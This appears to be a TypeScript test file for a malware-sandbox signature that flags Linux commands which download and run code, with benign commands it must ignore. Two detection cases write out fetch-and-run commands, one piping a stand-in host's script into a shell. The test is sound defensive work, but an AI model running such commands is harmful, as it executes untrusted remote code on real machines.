import { given, SignatureTester } from 'ovoscope/testing';
import LinuxDownloadsAndRuns from './linux_downloads_and_runs.ts';

const run = (command_line: string) => given('sample.exe', ['CreateProcessInternalW', { command_line }]);

new SignatureTester().run(LinuxDownloadsAndRuns, {
  detects: [
    { name: 'into a shell', results: run('sh -c curl -s http://evil.example/x | sh') },
    { name: 'into a folder for all', results: run('wget http://8.8.4.4/bins/arm7 -O /tmp/a') },
  ],
  ignores: [
    { name: 'a page', results: run('curl https://www.example/') },
    { name: 'a package', results: run('apt-get install curl') },
  ],
});
